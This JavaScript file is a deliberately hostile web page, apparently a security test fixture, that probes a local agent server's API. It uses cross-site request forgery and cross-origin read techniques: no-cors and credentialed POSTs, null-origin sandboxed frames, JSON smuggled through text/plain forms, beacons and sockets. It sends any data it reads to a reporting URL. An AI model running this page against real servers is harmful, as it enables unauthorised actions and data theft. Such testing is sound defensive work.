// A hostile page: tries to act and to read at the URL `?api=` in every way that a browser has, and reports to `?report=` what
// it could read. Whether it could act is seen at the other end.
const asked = new URLSearchParams(location.search);
const api = asked.get("api");
const run = JSON.stringify({ assistant_id: "agent", input: {} });

const READABLE = ["/info", "/ok", "/v1/status", "/v1/runs", "/v1/crons/steady", "/metrics", "/healthz", "/openapi.json",
  "/agentcron/", "/agentcron/act?act=pause&cron=steady",
  "/agent-server/openapi.json", "/runs/crons/00000000-0000-4000-8000-000000000000", "//info"];
const ACTING = ["/v1/crons/steady/pause", "/v1/crons/steady/trigger", "/v1/webhooks/hold", "/runs", "/runs/batch",
  "/runs/crons", "/threads", "/agentcron/act", "/agentcron/logout"];
// What the forms of the web page send.
const FORMS = { "/agentcron/act": "act=pause&cron=steady", "/agentcron/logout": "next=" };

const read = [];

// Tries one way and notes what it led to, if the page can tell.
async function attempt(what, way) {
  try {
    const seen = await way();
    if (seen) read.push(`${what}: ${seen}`);
  } catch {}
}

const seen = async (response) => (response.type === "opaque" ? null : `${response.status} ${await response.text()}`);

// Sends a form to a frame, as needs no preflight.
function submitted(path, type) {
  return new Promise((resolve) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = `frame-${Math.random()}`;
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, { action: api + path, method: "post", enctype: type, target: frame.name });
    // As text/plain this is `NAME=VALUE`, and can be JSON.
    const fields = path in FORMS ? [...new URLSearchParams(FORMS[path])] : [[`${run.slice(0, -1)},"x":"`, '"}']];
    for (const [name, value] of fields) {
      const field = form.appendChild(document.createElement("input"));
      [field.name, field.value] = [name, value];
    }
    frame.onload = () => resolve(null);
    setTimeout(resolve, 3000, null);
    form.submit();
  });
}

function embedded(tag, attribute, path) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = element.onerror = () => resolve(null);
    setTimeout(resolve, 3000, null);
    element[attribute] = api + path;
    document.body.append(element);
  });
}

// Waits for what a frame shows; the frame of another origin shows nothing.
function framed(path) {
  return new Promise((resolve) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.onload = () => {
      try {
        resolve(frame.contentDocument && frame.contentDocument.body.innerText);
      } catch {
        resolve(null);
      }
    };
    setTimeout(resolve, 3000, null);
    frame.src = api + path;
  });
}

function pushed(path) {
  return new Promise((resolve) => {
    const source = new EventSource(api + path);
    source.onopen = () => resolve("opened", source.close());
    source.onerror = () => resolve(source.close());
  });
}

function connected(path) {
  return new Promise((resolve) => {
    const socket = new WebSocket(api.replace("http", "ws") + path);
    socket.onopen = () => resolve("opened");
    socket.onerror = () => resolve(null);
  });
}

// A frame without an origin of its own, whose requests say `Origin: null`.
function sandboxed(path, init) {
  return new Promise((resolve) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.sandbox = "allow-scripts";
    window.addEventListener("message", ({ source, data }) => source === frame.contentWindow && resolve(data));
    const asked = `${JSON.stringify(api + path)}, ${JSON.stringify(init)}`;
    const script = `const say = (seen) => parent.postMessage(seen, "*");
      fetch(${asked}).then((response) => response.text()).then(say, () => say(null))`;
    frame.srcdoc = `<script>${script}</` + `script>`;
  });
}

// Our own server sends the request on, with its method and body.
const redirected = async (path, init) => seen(await fetch(`/to?${api}${path}`, init));

async function main() {
  const ways = [];
  for (const path of READABLE) {
    ways.push(attempt(`GET ${path}`, async () => seen(await fetch(api + path))));
    ways.push(attempt(`GET ${path} as a user`, async () => seen(await fetch(api + path, { credentials: "include" }))));
    ways.push(attempt(`GET ${path} unseen`, async () => seen(await fetch(api + path, { mode: "no-cors" }))));
    ways.push(attempt(`frame of ${path}`, () => framed(path)));
    ways.push(attempt(`script ${path}`, () => embedded("script", "src", path)));
    ways.push(attempt(`events of ${path}`, () => pushed(path)));
    ways.push(attempt(`socket at ${path}`, () => connected(path)));
    ways.push(attempt(`GET ${path} without an origin`, () => sandboxed(path, {})));
    ways.push(attempt(`GET ${path} redirected`, () => redirected(path, {})));
  }
  // This one does not end by itself, so only what closes it asks for it.
  ways.push(attempt("events of /agentcron/events", () => pushed("/agentcron/events")));
  for (const path of ACTING) {
    const json = { "content-type": "application/json" };
    const key = { "x-api-key": "0123456789abcdef" };
    const body = FORMS[path] ?? (path === "/runs/batch" ? `[${run}]` : run);
    const form = { "content-type": "application/x-www-form-urlencoded" };
    const post = (init) => fetch(api + path, { method: "POST", body, ...init });
    ways.push(attempt(`POST ${path} as JSON`, async () => seen(await post({ headers: json }))));
    const asUser = { headers: form, credentials: "include" };
    ways.push(attempt(`POST ${path} as a user`, async () => seen(await post(asUser))));
    ways.push(attempt(`POST ${path} as a user, unseen`, async () => seen(await post({ ...asUser, mode: "no-cors" }))));
    ways.push(attempt(`POST ${path} with a key`, async () => seen(await post({ headers: key }))));
    ways.push(attempt(`POST ${path} as text`, async () => seen(await post({}))));
    ways.push(attempt(`POST ${path} unseen`, async () => seen(await post({ mode: "no-cors" }))));
    const silent = { mode: "no-cors", referrerPolicy: "no-referrer" };
    ways.push(attempt(`POST ${path} without a referrer`, async () => seen(await post(silent))));
    ways.push(attempt(`POST ${path} without an origin`, () => sandboxed(path, { method: "POST", body })));
    ways.push(attempt(`POST ${path} redirected`, () => redirected(path, { method: "POST", body, mode: "no-cors" })));
    ways.push(attempt(`PUT ${path}`, async () => seen(await post({ method: "PUT" }))));
    ways.push(attempt(`beacon to ${path}`, async () => void navigator.sendBeacon(api + path, body)));
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      ways.push(attempt(`form to ${path} as ${type}`, () => submitted(path, type)));
    }
  }
  await Promise.all(ways);
  const body = JSON.stringify({ tried: ways.length, read });
  await fetch(asked.get("report"), { method: "POST", mode: "no-cors", body });
}

main();
